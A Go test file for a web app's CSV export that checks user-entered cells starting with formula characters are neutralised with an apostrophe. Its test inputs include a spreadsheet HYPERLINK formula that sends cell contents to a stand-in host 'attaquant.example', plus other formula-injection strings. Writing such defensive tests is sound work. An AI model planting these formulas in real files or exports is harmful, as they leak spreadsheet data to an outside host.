package web_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"testing"
)

func TestEveryCSVCellFromUserTextIsNeutralised(t *testing.T) {
	s, st := newServer(t)
	copyMinistry(t, st) // the demo's Ministère ouvert #1 has its minutes published
	do := func(role, method, url, body string, want int) string {
		t.Helper()
		w := call(t, s, role, method, url, body)
		if w.Code != want {
			t.Fatalf("%s %s as %s: %d, want %d: %s", method, url, role, w.Code, want, w.Body)
		}
		return w.Body.String()
	}
	const formula = `=HYPERLINK("http://attaquant.example/?"&A1,"Cliquez")`
	do(admin, "PATCH", "/api/v1/workshops/11", `{"title":`+jsonString(formula)+`}`, 200)
	do(facil, "POST", "/api/v1/workshops/11/contributions", `{"category":"future_commitments","text":"+SUM(1;2)","author":"@Regards","consent":true,"publishable":true}`, 201)
	do(facil, "POST", "/api/v1/workshops/11/contributions", `{"category":"impact_indicators","text":"  -2+3","publishable":true}`, 201)
	for _, ws := range []string{"9", "10", "11", "12", "13"} {
		do(admin, "POST", "/api/v1/workshops/"+ws+"/minutes/approve", "", 200)
	}
	do(orgSERE, "POST", "/api/v1/events/3/minutes/publish", "", 200)
	rows := frenchCSV(t, []byte(do(anonymous, "GET", "/api/v1/events/3/contributions.csv", "", 200)))
	if len(rows) != 3 {
		t.Fatalf("csv: %q", rows)
	}
	for i, want := range [][3]string{{"'" + formula, "'+SUM(1;2)", "'@Regards"}, {"'" + formula, "'  -2+3", ""}} {
		if r := rows[i+1]; r[4] != want[0] || r[7] != want[1] || r[8] != want[2] {
			t.Errorf("row %d: workshop %q, text %q, author %q; want %q", i+1, r[4], r[7], r[8], want)
		}
	}
}

func jsonString(s string) string { b, _ := json.Marshal(s); return string(b) }

// frenchCSV reads a CSV as a French spreadsheet opens it: it must start
// with a byte-order mark, separate cells by semicolons and end lines by CRLF.
func frenchCSV(t *testing.T, body []byte) [][]string {
	t.Helper()
	if !bytes.HasPrefix(body, []byte("\uFEFF")) || !bytes.Contains(body, []byte("\r\n")) {
		t.Fatalf("not a CSV for a French spreadsheet (BOM, CRLF): %q", body[:min(len(body), 80)])
	}
	r := csv.NewReader(bytes.NewReader(body[3:]))
	r.Comma = ';'
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatalf("csv: %v", err)
	}
	return rows
}
